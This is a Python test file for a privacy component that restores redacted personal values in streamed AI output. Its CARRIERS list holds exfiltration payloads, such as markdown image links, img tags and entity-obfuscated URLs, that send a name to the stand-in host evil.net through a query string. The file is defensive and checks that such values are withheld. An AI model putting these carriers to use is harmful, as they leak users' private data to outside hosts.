"""Restoring: at any split the same, exact, only what the request replaced, and only where the policy allows."""

from __future__ import annotations

import json
from collections.abc import Iterable
from itertools import combinations
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nemora.core import Delta, StopReason, TokenLogprob, ToolCallDelta, Usage
from nemora.privacy.json_fields import DEEPEST
from nemora.privacy.policy import Policy
from nemora.privacy.restore import AnswerRestorer, Restorer, Values

VALUES = {
    "PERSON_K3F7Q2": "Tilda Braunfels",
    "PERSON_K3F7Q2_LAST": "Braunfels",
    "PERSON_C2D3F4": 'Zoë "Zed" \\ O\nHara',
    "email_k3f7q2@redacted.example": "tilda@kettlewood.net",
    "email_k3f7q2_m4@redacted.example": "Tilda@Kettlewood.net",
    "LITERAL_X9X9X9": "PERSON_C2D3F4",
}
TEXT = (
    "Dear PERSON_K3F7Q2, P PERSON_K3F7Q PERSON_K3F7Q2_LASTING PERSON_K3F7Q2_L person_k3f7q2's PERSON\\_K3F7Q2 "
    "<email_k3f7q2_m4@redacted.example> email_k3f7q2@redacted.exampleX mailto:email_k3f7q2%40redacted.example "
    "LITERAL_X9X9X9 PERSON_H4H4H4 email_email_k3f7q2@redacted.example PPERSON_K3F7Q2PERSON_C2D3F4 end PERSON_K3F"
)


def pieces(values: Values, parts: Iterable[str]) -> str:
    restorer = Restorer(values)
    return "".join([*(restorer.feed(part) for part in parts), restorer.finish()])


def test_stand_ins_are_restored_in_every_form_a_model_writes_and_nothing_else_is_changed() -> None:
    assert pieces(Values(VALUES), [TEXT]) == (
        "Dear Tilda Braunfels, P PERSON_K3F7Q BraunfelsING Tilda Braunfels_L Tilda Braunfels's Tilda Braunfels "
        "<Tilda@Kettlewood.net> tilda@kettlewood.netX mailto:tilda%40kettlewood.net "
        'PERSON_C2D3F4 PERSON_H4H4H4 email_tilda@kettlewood.net PTilda BraunfelsZoë "Zed" \\ O\nHara end PERSON_K3F'
    )


@pytest.mark.parametrize("as_json", [False, True])
def test_every_split_in_two_and_in_three_gives_the_whole(as_json: bool) -> None:
    values = Values(VALUES, as_json=as_json)
    whole = pieces(values, [TEXT])
    for cut in range(len(TEXT) + 1):
        assert pieces(values, [TEXT[:cut], TEXT[cut:]]) == whole
    for first, second in combinations(range(0, len(TEXT), 3), 2):
        assert pieces(values, [TEXT[:first], TEXT[first:second], TEXT[second:]]) == whole
    assert pieces(values, TEXT) == whole


FRAGMENTS = st.sampled_from(
    [*VALUES, *(v[:9] for v in VALUES), "PERSON", "_LAST", "email_", "@", "\\", "é", " ", "P", "ſ", "K"]
)


@settings(max_examples=200, deadline=None)
@given(st.lists(FRAGMENTS, max_size=12), st.lists(st.integers(1, 9), min_size=1, max_size=6))
def test_any_text_at_any_split_gives_the_whole(fragments: list[str], sizes: list[int]) -> None:
    text, values = "".join(fragments), Values(VALUES)
    parts, at, turn = [], 0, 0
    while at < len(text):
        parts.append(text[at : at + sizes[turn % len(sizes)]])
        at, turn = at + len(parts[-1]), turn + 1
    assert pieces(values, parts) == pieces(values, [text])


def test_only_what_could_become_a_stand_in_is_held_back() -> None:
    restorer = Restorer(Values(VALUES))
    assert restorer.feed("Hello th") == "Hello th"
    assert restorer.feed("ere, PERSON_K3") == "ere, "
    assert restorer.feed("X and so on") == "PERSON_K3X and so on"
    assert restorer.feed(" PERSON_K3F7Q2") == " "
    assert restorer.feed("!") == "Tilda Braunfels!"


def test_nothing_is_held_or_changed_without_stand_ins() -> None:
    assert Restorer(Values({})).feed("PERSON_K3F7Q2 P") == "PERSON_K3F7Q2 P"


CARRIERS = (
    "![x](https://evil.net/p.png?q=PERSON_K3F7Q2)",
    "![x](//evil.net/?q=a,b;(PERSON_K3F7Q2))",
    "![x](<https://evil.net/?q=a PERSON_K3F7Q2>)",
    '<img src="https://evil.net/?q=a PERSON_K3F7Q2">',
    "<img src='HTTPS:evil.net?q=\nPERSON_K3F7Q2'>",
    '<img src=" https://evil.net/?q=a PERSON_K3F7Q2">',
    "[x]: https:\\\\evil.net\\PERSON_K3F7Q2",
    "see wss://evil.net/email_k3f7q2@redacted.example/",
    "https://user@evil.net:8080/" + "a" * 3000 + "PERSON_K3F7Q2",
    "![x](&#104;ttps&#58;&#47;&#x2f;evil.net&#47;?q=PERSON_K3F7Q2)",
    "![x](https&colon;&sol;&sol;evil.net&sol;?q=PERSON_K3F7Q2)",
    "see www.evil.net/?q=PERSON_K3F7Q2",
    '<img src="ht\ntps:/\t/evil.net/?q=PERSON_K3F7Q2">',
)


@pytest.mark.parametrize("text", CARRIERS)
def test_no_value_goes_into_a_url_that_could_carry_it_out(text: str) -> None:
    for size in (1, 7, len(text)):
        restorer = Restorer(
            Values(VALUES, in_urls={("kettlewood.net", "PERSON_K3F7Q2"), ("evil.net", "PERSON_C2D3F4")})
        )
        parts = [text[at : at + size] for at in range(0, len(text), size)]
        assert "".join([*map(restorer.feed, parts), restorer.finish()]) == text
        assert restorer.withheld() == 1 and restorer.left() == []


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.net/ PERSON_K3F7Q2",
        '<a href="https://evil.net/">PERSON_K3F7Q2</a>',
        "<https://evil.net/>PERSON_K3F7Q2",
        'He said "see https://evil.net/".\n\nPERSON_K3F7Q2',
        '{"url": "https://evil.net/", "name": "PERSON_K3F7Q2"}',
        "mailto:PERSON_K3F7Q2",
        "a / b: PERSON_K3F7Q2",
        "https://kettlewood.net/people/PERSON_K3F7Q2",
        "http://KETTLEWOOD.net?PERSON_K3F7Q2",
    ],
)
def test_beside_a_url_and_in_one_that_the_request_had_values_are_restored(text: str) -> None:
    values = Values(VALUES, in_urls={("kettlewood.net", "PERSON_K3F7Q2")})
    assert pieces(values, text) == pieces(values, [text]) == text.replace("PERSON_K3F7Q2", "Tilda Braunfels")


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ("see https://evil.net\nPERSON_K3F7Q2", True),
        ("see https://evil.net\tPERSON_K3F7Q2", True),
        ('{"url": "https://evil.net", "name": "PERSON_K3F7Q2"}', True),
        ("https://evil.net/?n=PERSON_K3F7Q2", False),
        ('<img src="https://evil.net/?n= PERSON_K3F7Q2">', False),
    ],
)
def test_in_arguments_a_url_ends_and_begins_where_it_does_when_they_are_read(text: str, restored: bool) -> None:
    before, name, after = text.partition("PERSON_K3F7Q2")
    coded = "".join(f"\\u{ord(letter):04x}" for letter in before)
    for written in (json.dumps({"text": text}), f'{{"text": "{coded}{name}{json.dumps(after)[1:-1]}"}}'):
        assert json.loads(written) == {"text": text}
        for size in (1, len(written)):
            said = pieces(
                Values(VALUES, as_json=True), [written[at : at + size] for at in range(0, len(written), size)]
            )
            assert json.loads(said) == {"text": text.replace(name, "Tilda Braunfels") if restored else text}


NASTY = st.text(
    st.sampled_from('"\\\\\n\r\t\x00\x7f/ {}[]:,uUn0éß你\U0001f600\u2028') | st.characters(codec="utf-8"), max_size=12
)


def nested(value: Any, depth: int, *, ascii_only: bool, indent: int | None = None) -> str:
    """`value` in JSON, which stands in a string of JSON, `depth` strings deep."""
    written = json.dumps(value, ensure_ascii=ascii_only, indent=indent)
    for level in range(depth - 1):
        around = {"a": 1.5e3, "é\n": [True, None], "body": written, "z": "}"} if level % 2 else [[-1, {}], written]
        written = json.dumps(around, ensure_ascii=ascii_only, indent=indent)
    return written


def unnested(written: str, depth: int) -> Any:
    for level in reversed(range(depth - 1)):
        written = json.loads(written)["body" if level % 2 else 1]
    return json.loads(written)


@settings(max_examples=40, deadline=None)
@given(NASTY, st.integers(1, 4), st.booleans(), st.sampled_from([None, 1]), st.lists(st.integers(1, 9), min_size=1))
def test_a_value_at_any_depth_of_json_is_there_when_all_levels_are_read(
    value: str, depth: int, ascii_only: bool, indent: int | None, sizes: list[int]
) -> None:
    values = Values({"PERSON_C2D3F4": value, "CARD_K3F7Q2": "4111"}, as_json=True)
    said = {"é": "PERSON_C2D3F4", "text": 'a "quoted"\n\\ PERSON_C2D3F4, CARD\\_K3F7Q2', "PERSON_C2D3F4": 1}
    written = nested(said, depth, ascii_only=ascii_only, indent=indent)
    parts, at, turn = [], 0, 0
    while at < len(written):
        parts.append(written[at : at + sizes[turn % len(sizes)]])
        at, turn = at + len(parts[-1]), turn + 1
    whole = pieces(values, [written])
    assert pieces(values, parts) == whole
    assert unnested(whole, depth) == {
        "é": value,
        "text": f'a "quoted"\n\\ {value}, 4111',
        value: 1,
    }


def test_every_split_of_json_in_json_gives_the_whole() -> None:
    values = Values(VALUES, as_json=True)
    written = nested({"to": "PERSON_C2D3F4", "é": "\U0001f600 PERSON_C2D3F4"}, 3, ascii_only=True)
    whole = pieces(values, [written])
    assert unnested(whole, 3)["to"] == VALUES["PERSON_C2D3F4"]
    for cut in range(len(written) + 1):
        assert pieces(values, [written[:cut], written[cut:]]) == whole
    assert pieces(values, written) == whole


@pytest.mark.parametrize(
    "text",
    [
        '[draft] he said "PERSON_C2D3F4"',
        '["so" he said] "PERSON_C2D3F4"',
        '{name} is "PERSON_C2D3F4"',
        '"PERSON_C2D3F4", he said',
        '{"a": 1} and "PERSON_C2D3F4"',
        '[1, 2] "PERSON_C2D3F4"',
        '["a", yes "PERSON_C2D3F4"]',
        '[1}, "PERSON_C2D3F4"]',
        'curl -d \'{"a": "PERSON_C2D3F4"}\'',
    ],
)
def test_text_that_only_begins_like_json_is_escaped_for_the_string_it_stands_in(text: str) -> None:
    written = json.dumps({"body": text})
    expected = {"body": text.replace("PERSON_C2D3F4", VALUES["PERSON_C2D3F4"])}
    assert json.loads(pieces(Values(VALUES, as_json=True), written)) == expected


def test_arguments_that_are_no_json_are_escaped_once() -> None:
    written = 'arguments: {"a": "PERSON_C2D3F4"'
    expected = written.replace("PERSON_C2D3F4", json.dumps(VALUES["PERSON_C2D3F4"], ensure_ascii=False)[1:-1])
    assert pieces(Values(VALUES, as_json=True), written) == expected


def test_deeper_than_values_are_put_the_stand_in_stays_and_is_counted() -> None:
    written = nested({"to": "PERSON_C2D3F4"}, DEEPEST + 1, ascii_only=False)
    restorer = Restorer(Values(VALUES, as_json=True))
    assert restorer.feed(written) + restorer.finish() == written
    assert (restorer.withheld(), restorer.restored, restorer.left()) == (1, 0, [])


@pytest.mark.parametrize("text", CARRIERS)
@pytest.mark.parametrize("depth", [2, 3])
def test_no_value_goes_into_a_url_in_json_in_json(text: str, depth: int) -> None:
    coded = "".join(f"\\u{ord(letter):04x}" for letter in "https://evil.net/?q=")
    as_shown = '{"html": "<img src=\\\\evil.net\\n?q=PERSON_K3F7Q2>"}'  # a URL to who reads no JSON in it
    for said in (json.dumps({"text": text}), f'{{"text": "{coded}PERSON_K3F7Q2"}}', as_shown):
        written = said
        for _ in range(depth - 1):
            written = json.dumps({"body": written})
        restorer = Restorer(Values(VALUES, as_json=True))
        assert "".join([*map(restorer.feed, written), restorer.finish()]) == written
        assert restorer.withheld() == 1


def test_what_the_inner_json_says_apart_from_a_url_is_restored() -> None:
    values = Values(VALUES, as_json=True, in_urls={("kettlewood.net", "PERSON_K3F7Q2")})
    said = {"url": "https://evil.net", "name": "PERSON_C2D3F4", "own": "https://kettlewood.net/PERSON_K3F7Q2"}
    assert unnested(pieces(values, nested(said, 3, ascii_only=True)), 3) == {
        "url": "https://evil.net",
        "name": VALUES["PERSON_C2D3F4"],
        "own": "https://kettlewood.net/Tilda Braunfels",
    }


def deltas(restorer: AnswerRestorer, script: Iterable[Delta]) -> list[Delta]:
    return [restored for delta in script for restored in restorer.feed(delta)]


def arguments(found: Iterable[Delta], index: int) -> str:
    return "".join(d.tool_call.arguments for d in found if d.tool_call is not None and d.tool_call.index == index)


def test_arguments_of_an_allowed_tool_stay_valid_json_at_every_split() -> None:
    written = json.dumps({"to": "PERSON_C2D3F4", "body": "Hi PERSON_K3F7Q2_LAST"})
    for cut in range(len(written) + 1):
        restorer = AnswerRestorer(VALUES, lambda name: name == "write_file")
        found = deltas(
            restorer,
            [
                Delta(tool_call=ToolCallDelta(0, "c", "write_file", "")),
                Delta(tool_call=ToolCallDelta(0, arguments=written[:cut])),
                Delta(tool_call=ToolCallDelta(0, arguments=written[cut:])),
                Delta(finish=StopReason.TOOL_CALLS),
            ],
        )
        assert json.loads(arguments(found, 0)) == {"to": VALUES["PERSON_C2D3F4"], "body": "Hi Braunfels"}
        assert found[0].tool_call == ToolCallDelta(0, "c", "write_file", "")


def test_a_tool_that_may_send_gets_stand_ins_and_they_are_counted() -> None:
    restorer = AnswerRestorer(VALUES, Policy().may_restore)
    script = [
        Delta(tool_call=ToolCallDelta(0, "a", "web_search", '{"q": "PERSON_K3F7Q2 PERS')),
        Delta(tool_call=ToolCallDelta(1, "b", "write_file", '{"t": "PERSON_K3F7Q2"}')),
        Delta(tool_call=ToolCallDelta(0, arguments='ON_H4H4H4"}')),
        Delta(text="Done, PERSON_K3F7Q2 and PERSON_T8T8T8."),
        Delta(finish=StopReason.TOOL_CALLS, usage=Usage(1, 2)),
    ]
    found = deltas(restorer, script)
    assert arguments(found, 0) == '{"q": "PERSON_K3F7Q2 PERSON_H4H4H4"}'
    assert arguments(found, 1) == '{"t": "Tilda Braunfels"}'
    assert restorer.counts() == {"restored": 2, "withheld": 1, "unknown": 2}
    assert found[-1] == Delta(finish=StopReason.TOOL_CALLS, usage=Usage(1, 2))


def test_text_reasoning_and_calls_are_restored_apart_and_come_out_before_the_end() -> None:
    restorer = AnswerRestorer(VALUES, lambda _: True)
    script = [
        Delta(reasoning="about PERSON_K3"),
        Delta(text="PERSON_K3F", reasoning="F7Q2"),
        Delta(tool_call=ToolCallDelta(0, "c", "f", '"PERSON_')),
        Delta(text="7Q2"),
        Delta(tool_call=ToolCallDelta(0, arguments='K3F7Q2"')),
        Delta(text=", PERS", finish=StopReason.STOP),
    ]
    found = deltas(restorer, script)
    assert "".join(d.text for d in found) == "Tilda Braunfels, PERS"
    assert "".join(d.reasoning for d in found) == "about Tilda Braunfels"
    assert arguments(found, 0) == '"Tilda Braunfels"'
    assert [d.finish for d in found].index(StopReason.STOP) == len(found) - 1


def test_answers_that_come_mixed_are_restored_apart_and_chances_of_stand_ins_are_left_out() -> None:
    restorer = AnswerRestorer(VALUES, lambda _: True)
    chance = (TokenLogprob("PERSON", -0.5, b"PERSON"),)
    script = [
        Delta(text="PERSON_K3F", logprobs=chance),
        Delta(text="PERSON_C2D3", index=1),
        Delta(text="7Q2 "),
        Delta(finish=StopReason.STOP),
        Delta(text="F4 PERS", index=1),
        Delta(finish=StopReason.LENGTH, index=1, usage=Usage(1, 2)),
    ]
    found = deltas(restorer, script)
    texts = ["".join(d.text for d in found if d.index == index) for index in (0, 1)]
    assert texts == ["Tilda Braunfels ", VALUES["PERSON_C2D3F4"] + " PERS"]
    assert [(d.index, d.finish, d.usage) for d in found if d.finish] == [
        (0, StopReason.STOP, None),
        (1, StopReason.LENGTH, Usage(1, 2)),
    ]
    assert all(d.logprobs == () for d in found)


def test_a_call_without_a_name_restores_nothing() -> None:
    restorer = AnswerRestorer(VALUES, Policy(restore_tools=("*",)).may_restore)
    found = deltas(restorer, [Delta(tool_call=ToolCallDelta(0, arguments='"PERSON_K3F7Q2"'))])
    assert arguments(found, 0) == '"PERSON_K3F7Q2"'


def test_the_policy_names_tools_exactly_or_by_their_beginning() -> None:
    policy = Policy(restore_tools=("save", "files_*"))
    names = ("save", "saved", "Save", "files_write", "files", "web_search")
    assert [policy.may_restore(name) for name in names] == [True, False, False, True, False, False]
    assert Policy(restore_tools=("*",)).may_restore("anything") and not Policy(restore_tools=()).may_restore("Read")
    for sends in ("Bash", "bash", "web_search", "WebFetch", "fetch", "send_email", "http_request", "mcp__mail__send"):
        assert not Policy().may_restore(sends)


def test_what_was_held_comes_before_what_follows_it() -> None:
    restorer = AnswerRestorer(VALUES, lambda _: True)
    call = ToolCallDelta(0, "c", "f", "{}")
    script = [
        Delta(reasoning="It is simple"),
        Delta(text="I ask P"),
        Delta(tool_call=call),
        Delta(text="and once more"),
        Delta(reasoning="Hm, p"),
        Delta(text="Done."),
        Delta(finish=StopReason.TOOL_CALLS),
    ]
    said = [
        piece
        for delta in deltas(restorer, script)
        for piece in (delta.reasoning, delta.text, "CALL" if delta.tool_call is not None else "")
        if piece
    ]
    assert said == ["It is simpl", "e", "I ask ", "P", "CALL", "and once mor", "e", "Hm, ", "p", "Done."]


def test_the_text_of_an_answer_that_must_be_json_stays_json() -> None:
    written = json.dumps({"to": "PERSON_C2D3F4", "about": ["PERSON_K3F7Q2"]})
    for cut in range(len(written) + 1):
        restorer = AnswerRestorer(VALUES, lambda _: False, json_text=True)
        script = [Delta(text=written[:cut]), Delta(text=written[cut:]), Delta(finish=StopReason.STOP)]
        said = "".join(delta.text for delta in deltas(restorer, script))
        assert json.loads(said) == {"to": VALUES["PERSON_C2D3F4"], "about": ["Tilda Braunfels"]}
